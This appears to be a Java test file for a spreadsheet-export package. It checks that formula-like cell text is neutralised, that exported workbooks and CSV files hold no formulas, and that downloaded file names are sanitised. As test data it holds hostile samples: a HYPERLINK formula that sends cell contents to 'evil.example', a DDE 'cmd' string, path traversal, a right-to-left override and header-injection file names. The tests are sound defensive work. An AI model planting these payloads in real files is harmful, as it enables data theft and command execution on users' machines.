package dure.sheet;

import static org.assertj.core.api.Assertions.assertThat;

import com.tngtech.archunit.core.importer.ClassFileImporter;
import com.tngtech.archunit.core.importer.ImportOption;
import com.tngtech.archunit.lang.syntax.ArchRuleDefinition;
import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.regex.Pattern;
import net.jqwik.api.Example;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.WorkbookFactory;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Text in a table that leaves is text for every program that opens it, and for us when it comes back. */
class WritingWhatIsNoFormula {
    private static final String LINK = "=HYPERLINK(\"http://evil.example/?\"&A1,\"눌러 보세요\")";

    @ParameterizedTest
    @ValueSource(
            strings = {
                LINK,
                "+1+cmd|' /C calc'!A0",
                "-2+3",
                "@SUM(A1:A9)",
                "＝1+1",
                "＋1",
                "－1",
                "＠SUM(A1)",
                "\t=1+1",
                "\r=1",
                " =1+1",
                "'=1",
                "''=1"
            })
    void what_a_spreadsheet_would_calculate_is_led_by_an_apostrophe_and_comes_back_the_same(String text) {
        assertThat(Harmless.written(text)).isEqualTo("'" + text);
        assertThat(Harmless.read(Harmless.written(text))).isEqualTo(text);
    }

    @ParameterizedTest
    @ValueSource(strings = {"", "-", "+", "청년 일자리", "3 = 1 + 2", "a=b", "'인용'", "1-2", "(－1)"})
    void what_nobody_would_calculate_stays_as_it_is(String text) {
        assertThat(Harmless.written(text)).isEqualTo(text);
        assertThat(Harmless.read(text)).isEqualTo(text);
    }

    @Property
    void every_text_comes_back(@ForAll String text) {
        assertThat(Harmless.read(Harmless.written(text))).isEqualTo(text);
        assertThat(Harmless.written(text)).doesNotMatch("(?s)\\s*[=+\\-@＝＋－＠].+");
    }

    @Test
    void a_workbook_of_ours_holds_no_formula_and_is_read_back_as_it_was() throws IOException {
        var writer = new WorkbookWriter();
        var heads = List.of(
                new Head("=이름", 20, Head.Format.TEXT, false, null, List.of()),
                new Head("수", 10, Head.Format.WHOLE, false, null, List.of()));
        writer.table("표", heads).row(LINK, 3).row("-2+3", 4).row("@SUM(A1)", 5);
        writer.form("항목", heads).item(heads.getFirst(), "+1+1", "=보기");
        writer.text("글", List.of("=제목", "－1"));
        var bytes = writer.bytes();
        try (var opened = WorkbookFactory.create(new ByteArrayInputStream(bytes))) {
            for (var sheet : opened) {
                for (var row : sheet) {
                    for (var cell : row) {
                        assertThat(cell.getCellType()).isNotEqualTo(CellType.FORMULA);
                        if (cell.getCellType() == CellType.STRING) {
                            assertThat(cell.getStringCellValue()).doesNotMatch("(?s)\\s*[=+\\-@＝＋－＠].+");
                        }
                    }
                }
            }
        }
        var read = (Reading.Read) Sheets.read("x.xlsx", bytes);
        assertThat(read.workbook().sheets().getFirst().rows())
                .extracting(row -> row.cells().getFirst().text())
                .contains("=이름", LINK, "-2+3", "@SUM(A1)");
    }

    @Test
    void a_table_of_commas_is_read_back_too() {
        var read = (Reading.Read) Sheets.read("x.csv", ("이름,수\n'=1+1,3\n").getBytes(StandardCharsets.UTF_8));
        assertThat(read.workbook()
                        .sheets()
                        .getFirst()
                        .rows()
                        .get(1)
                        .cells()
                        .getFirst()
                        .text())
                .isEqualTo("=1+1");
    }

    @Example
    void a_table_of_commas_that_leaves_holds_no_formula() {
        var csv = new String(
                new CsvWriter()
                        .row(List.of("=1+1", "＝HYPERLINK(1)", "-2+3", "이름", 5L))
                        .bytes(),
                StandardCharsets.UTF_8);
        assertThat(csv).isEqualTo("\ufeff\"'=1+1\",\"'＝HYPERLINK(1)\",\"'-2+3\",\"이름\",\"5\"\r\n");
    }

    /** Whoever writes a table writes it here. */
    @Example
    void no_other_writer_exists() throws IOException {
        ArchRuleDefinition.noClasses()
                .that()
                .resideOutsideOfPackage("dure.sheet")
                .should()
                .dependOnClassesThat()
                .resideInAnyPackage("org.dhatim..", "org.apache.commons.csv..", "org.apache.poi..")
                .because("a table that leaves is written by dure.sheet, which knows what a spreadsheet would calculate")
                .check(new ClassFileImporter()
                        .withImportOption(new ImportOption.DoNotIncludeTests())
                        .importPackages("dure"));
        assertThat(unguarded(Path.of("src/main/java"))).isEmpty();
    }

    /** Texts put into a cell without {@link Harmless}, and CSV that is put together without {@link CsvWriter}. */
    private static List<String> unguarded(Path sources) throws IOException {
        var raw = Pattern.compile(
                "\\bsheet\\.(?:value|inlineString)\\((?:(?!Harmless|, date\\)|, number\\)|, truth).)*?\\);");
        var csv = Pattern.compile("(?i)\"text/csv|\\.csv\\\\?\"|CSVPrinter");
        try (var files = Files.walk(sources)) {
            return files.filter(file -> file.toString().endsWith(".java"))
                    .filter(file -> !file.toString().contains("/bench/")) // makes files for itself to read
                    .filter(file -> !file.toString().endsWith("/EvidenceType.java")) // tells what others wrote
                    .filter(file -> {
                        var code = read(file);
                        return (file.toString().contains("/sheet/")
                                        && raw.matcher(code).find())
                                || (csv.matcher(code).find()
                                        && !code.contains("Harmless")
                                        && !code.contains("new CsvWriter()")
                                        && !code.contains("consumes"));
                    })
                    .map(Path::toString)
                    .toList();
        }
    }

    private static String read(Path file) {
        try {
            return Files.readString(file);
        } catch (IOException e) {
            throw new java.io.UncheckedIOException(e);
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "../../etc/passwd=passwd",
                "C:\\Users\\kim\\계획.xlsx=계획.xlsx",
                "a\u202Egpj.exe=agpj.exe",
                "x\"; filename=\"y.html=x; filename==y.html",
                "<script>.xlsx=script.xlsx",
                "a\r\nSet-Cookie: b.csv=aSet-Cookie b.csv"
            })
    void a_files_name_is_fit_to_be_shown(String givenAndShown) {
        var at = givenAndShown.lastIndexOf('=');
        var given = givenAndShown.substring(0, at);
        var shown = givenAndShown.startsWith("x\"") ? "x; filename=y.html" : givenAndShown.substring(at + 1);
        assertThat(Sheets.name(given.startsWith("x\"") ? "x\"; filename=\"y.html" : given)
                        .replace("\n", ""))
                .isEqualTo(shown);
        assertThat(Sheets.name("가".repeat(500))).hasSize(200);
    }
}
